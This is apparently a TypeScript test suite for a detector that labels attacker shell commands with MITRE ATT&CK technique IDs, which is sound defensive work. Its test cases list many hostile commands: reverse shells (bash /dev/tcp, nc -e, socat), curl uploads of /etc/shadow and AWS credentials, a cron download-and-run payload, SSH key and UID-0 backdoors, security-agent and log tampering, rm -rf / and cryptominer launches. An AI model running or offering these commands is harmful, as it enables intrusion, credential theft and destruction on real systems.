import assert from 'node:assert/strict';
import { test } from 'node:test';
import { processorTime } from '../../../test/fixtures/processor-time.ts';
import { decodePayload } from './decode.ts';
import { techniqueRules } from './technique-rules.ts';
import { techniquesOf } from './techniques.ts';

const nothing = { hosts: [], urls: [] };
const key = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

/** A command, and all techniques that it is. */
const cases: readonly (readonly [line: string, ids: string])[] = [
  ['docker run -itd --privileged -v /:/host alpine sh', 'T1610 T1611'],
  ['docker -H tcp://192.0.2.1:2375 run --rm alpine id', 'T1610'],
  ['docker exec -it x sh', 'T1609'],
  ['docker ps -a', 'T1613'],
  ['docker rm -f x', 'T1489'],
  ['docker pull alpine', ''],
  ['kubectl exec -it x -- id', 'T1609'],
  ['kubectl get pods -A', 'T1613'],
  ['kubectl get secrets', 'T1552.007 T1613'],
  ['kubectl apply -f x.yaml', 'T1610'],
  ['curl -s http://10.0.0.1:2375/containers/json', 'T1613'],
  ['curl -XPOST --unix-socket /var/run/docker.sock http://localhost/containers/create', 'T1610 T1611'],
  ['curl -sk -XPOST https://10.0.0.1:10250/run/ns/pod/c -d cmd=id', 'T1609'],
  ['chroot /mnt', 'T1611'],
  ["chroot /host sh -c 'id'", 'T1033 T1059.004 T1611'],
  ['nsenter -t 1 -m -u -n -i', 'T1611'],
  ['nsenter --mount=/proc/1/ns/mnt', 'T1611'],
  ['mount /dev/sda1 /mnt', 'T1611'],
  ['mount -t tmpfs none /x', ''],
  ['echo x > /sys/fs/cgroup/rdma/release_agent', 'T1611'],
  ['crontab /tmp/c', 'T1053.003'],
  ['crontab -', 'T1053.003'],
  ['crontab -l', ''],
  ['crontab -r', ''],
  ["echo '* * * * * id' >> /var/spool/cron/root", 'T1053.003'],
  ['CONFIG SET dir /var/spool/cron/crontabs', 'T1053.003'],
  ['CONFIG SET dir /root/.ssh', 'T1098.004'],
  ['CONFIG GET dir', ''],
  ['cp x /etc/cron.d/zzh', 'T1053.003'],
  ['systemctl enable x.service', 'T1543.002'],
  ['systemctl restart sshd', ''],
  ['cat > /etc/systemd/system/x.service', 'T1543.002'],
  ['echo x >> /etc/rc.local', 'T1037.004'],
  ['echo x >> ~/.bashrc', 'T1546.004'],
  [
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA8Qx0Qz1J8t1s x' >> ~/.ssh/authorized_keys",
    'T1098.004',
  ],
  ['useradd -u 0 -o x', 'T1136.001'],
  ["echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", 'T1136.001'],
  ['chpasswd', 'T1098'],
  ['chmod u+s /bin/bash', 'T1222.002 T1548.001'],
  ['chmod 4755 /tmp/x', 'T1222.002 T1548.001'],
  ['chmod 777 /tmp/x', 'T1222.002'],
  ['chattr -iae ~/.ssh/authorized_keys', 'T1222.002'],
  ['tntrecht +ia x', 'T1222.002'],
  ['echo /usr/local/lib/x.so > /etc/ld.so.preload', 'T1014 T1574.006'],
  ['LD_PRELOAD=/tmp/x.so ls', 'T1083 T1574.006'],
  ['mv libprocesshider.so /usr/local/lib/', 'T1014'],
  ['insmod diamorphine.ko', 'T1014 T1547.006'],
  ['modprobe msr', 'T1496.001'],
  ['curl -fsSL http://192.0.2.1/x', 'T1105'],
  ['TNTcurl 192.0.2.1/x', 'T1105'],
  ['curl http://169.254.169.254/latest/meta-data/', 'T1552.005'],
  ['curl ifconfig.me', 'T1016'],
  ['curl -F file=@/root/.aws/credentials http://192.0.2.1/up', 'T1048 T1552.001'],
  ['wget -O /etc/cron.hourly/x http://192.0.2.1/x', 'T1053.003 T1105'],
  ['tftp -g -r x 192.0.2.1', 'T1105'],
  ['git clone https://github.com/xmrig/xmrig', 'T1105 T1496.001'],
  ['sh x.sh', 'T1059.004'],
  ['./x.sh', 'T1059.004'],
  ['./x', ''],
  ["python3 -c 'import os'", 'T1059.006'],
  ['python3.11 x.py', 'T1059.006'],
  ['python3 -V', ''],
  [`python -c "exec('${'QUFB'.repeat(20)}'.decode('base64'))"`, 'T1027 T1059.006 T1140'],
  [`python -c 'import socket,pty;s=socket.socket();pty.spawn("/bin/sh")'`, 'T1059.006 T1095'],
  ['perl x.pl', 'T1059'],
  ['aws sts get-caller-identity', 'T1059.009'],
  ['bash -i >& /dev/tcp/192.0.2.1/4444', 'T1059.004 T1095'],
  ['nc -e /bin/sh 192.0.2.1 4444', 'T1095'],
  ['nc 192.0.2.1 4444', ''],
  ["socat exec:'bash -li',pty tcp:192.0.2.1:4444", 'T1095'],
  ['ssh -i k root@10.0.0.1', 'T1021.004'],
  ['ssh -R 22:localhost:22 u@192.0.2.1', 'T1572'],
  ['curl --socks5-hostname 127.0.0.1:9050 http://x.onion/i', 'T1090.003 T1105'],
  ['base64 -d', 'T1140'],
  ['base64 x', ''],
  [`echo ${'QUFB'.repeat(12)}`, 'T1027'],
  ['echo hello', ''],
  ["printf '\\x63\\x75\\x72\\x6c'", 'T1027'],
  ["tr 'A-Za-z' 'N-ZA-Mn-za-m'", 'T1140'],
  ['tr a-z A-Z', ''],
  ['history -c', 'T1070.003'],
  ['history', ''],
  ['rm -f ~/.bash_history', 'T1070.003'],
  ['unset HISTFILE', 'T1562.003'],
  ['export HISTSIZE=0', 'T1562.003'],
  ['HISTFILE=/dev/null', 'T1562.003'],
  ['> /var/log/wtmp', 'T1070.002'],
  ['rm -rf /var/log/syslog', 'T1070.002 T1070.004'],
  ['rm -rf /tmp/x', 'T1070.004'],
  ['rm -rf /', 'T1070.004 T1485'],
  ['touch -r /bin/ls x', 'T1070.006'],
  ['setenforce 0', 'T1562.001'],
  ['echo SELINUX=disabled > /etc/selinux/config', 'T1562.001'],
  ['systemctl stop aliyun.service', 'T1489 T1562.001'],
  ['service apparmor stop', 'T1489 T1562.001'],
  ['curl http://update.aegis.aliyun.com/download/uninstall.sh', 'T1105 T1562.001'],
  ['ufw disable', 'T1562.004'],
  ['iptables -F', 'T1562.004'],
  ['iptables -L', ''],
  ['systemctl disable firewalld', 'T1562.004'],
  ['service auditd stop', 'T1489 T1562.012'],
  ['grep -i aliyun', 'T1518.001'],
  ['pkill -9 xmrig', 'T1489'],
  ['kill -9 1234', 'T1489'],
  ['kill -0 1234', ''],
  [`./kthreadd -o pool.example.org:3333 -u ${key} -k`, 'T1496.001'],
  ['xmrig --donate-level 1', 'T1496.001'],
  ['sysctl -w vm.nr_hugepages=128', 'T1496.001'],
  ['hping3 --flood 192.0.2.1', 'T1498'],
  ['reboot', 'T1529'],
  ['FLUSHALL', 'T1485'],
  ['masscan 10.0.0.0/8 -p2375', 'T1046'],
  ['cat /root/.ssh/known_hosts', 'T1018'],
  ['arp -a', 'T1018'],
  ['ip addr', 'T1016'],
  ['netstat -antp', 'T1049'],
  ['ps aux', 'T1057'],
  ['uname -a', 'T1082'],
  ['hostname', 'T1082'],
  ['hostname -I', 'T1016'],
  ['cat /proc/cpuinfo', 'T1082'],
  ['ls -la /tmp', 'T1083'],
  ['whoami', 'T1033'],
  ['cat /etc/passwd', 'T1087.001'],
  ['cat /etc/shadow', 'T1003.008'],
  ['cat /root/.aws/credentials', 'T1552.001'],
  ['cat /root/.bash_history', 'T1552.003'],
  ['find / -name id_rsa', 'T1083 T1552.004'],
  ['cat id_rsa.pub', ''],
  ['at now + 1 minute', 'T1053.002'],
  ['systemctl start x.timer', 'T1053.006'],
  ["node -e 'process.exit()'", 'T1059.007'],
  ['hydra -l root -P p.txt ssh://10.0.0.1', 'T1110'],
  ['tmate -S /tmp/t new-session -d', 'T1219'],
  ['slowloris 192.0.2.1', 'T1499'],
  ["echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", 'T1548.003'],
  ['nohup ./xmrig &', 'T1496.001'],
  ['/usr/bin/pawns-cli -email a@b.c', 'T1496.002'],
  ['curl -d @/etc/shadow http://192.0.2.1/x', 'T1003.008 T1048'],
  ['tar czf /tmp/o.tgz /root/.ssh', 'T1560.001'],
  ['tar xzf x.tgz', ''],
  ['scp root@192.0.2.1:/x /tmp/x', 'T1105'],
  ['scp x.sh root@10.0.0.1:/tmp/', 'T1021.004'],
  ['scp /tmp/o.tgz u@192.0.2.1:/in', 'T1048'],
  ['mkdir -p /dev/shm/.x', 'T1564.001'],
  ['mkdir -p /root/.ssh', ''],
  ['cp k /tmp/.ICE-unix/k', 'T1564.001'],
  ['echo 0.0.0.0 pool.example.org >> /etc/hosts', 'T1565.001'],
  ['/usr/local/cloudmonitor/agent stop', 'T1562.001'],
  ['/usr/local/qcloud/YunJing/uninst', 'T1562.001'],
  ['/usr/sbin/cloudmonitor start', ''],
  ['cd /tmp', ''],
];

test('each command is the techniques that it is, and no others', () => {
  for (const [line, ids] of cases)
    assert.deepEqual(techniquesOf([line], nothing), ids.split(' ').filter(Boolean), line);
});

test('several commands are a script of a shell', () => {
  assert.deepEqual(techniquesOf(['cd /tmp', 'cd /'], nothing), ['T1059.004']);
});

test('a command that another is given is no script', () => {
  assert.deepEqual(techniquesOf(['docker exec x id', 'id'], nothing), ['T1033', 'T1609']);
});

test('what is read and sent leaves', () => {
  const both = (first: string, second: string) => techniquesOf([first, second], nothing).includes('T1048');
  assert.ok(both('tar cz /root', 'nc 192.0.2.1 99'));
  assert.ok(!both('cat /tmp/f', 'nc -lvp 99'));
  assert.ok(!both('cd /tmp', 'nc 192.0.2.1 99'));
});

test('hosts and URLs tell what no command line shows', () => {
  assert.deepEqual(techniquesOf([], { hosts: ['pool.supportxmr.com'], urls: [] }), ['T1496.001']);
  assert.deepEqual(techniquesOf([], { hosts: [], urls: ['http://169.254.169.254/latest'] }), ['T1552.005']);
  const ofImage = (name: string) => techniquesOf([], { ...nothing, images: [name] });
  assert.deepEqual(ofImage('metal3d/xmrig:latest'), ['T1496.001']);
  assert.deepEqual(ofImage('traffmonetizer/cli'), ['T1496.002']);
  assert.deepEqual(ofImage('alpine'), []);
});

test('a whole payload has the techniques of all its stages', () => {
  const text = `chroot /mnt sh -c 'echo "* * * * * root curl -fsSL http://192.0.2.1/y|bash" > /etc/crontab; chattr +i /etc/crontab; history -c'`;
  const norm = decodePayload(text);
  assert.deepEqual(techniquesOf(norm.commands, norm), [
    'T1053.003',
    'T1059.004',
    'T1070.003',
    'T1105',
    'T1222.002',
    'T1611',
  ]);
});

test('every technique that is told has a command here', () => {
  const here = new Set(cases.flatMap(([, ids]) => ids.split(' ')));
  assert.deepEqual(
    techniqueRules.map(({ id }) => id).filter((id) => !here.has(id)),
    [],
  );
});

test('hostile lines cost linear time', () => {
  const used = processorTime();
  const parts = [
    'docker --a ',
    'systemctl stop ',
    '/docker.sock',
    'echo \\x41',
    'scp a@b:',
    'python -c chr10,',
    'stop aegis ',
  ];
  for (const part of parts) techniquesOf([part.repeat(2048 / part.length), part + '-'.repeat(2000)], nothing);
  assert.ok(used() < 500);
});
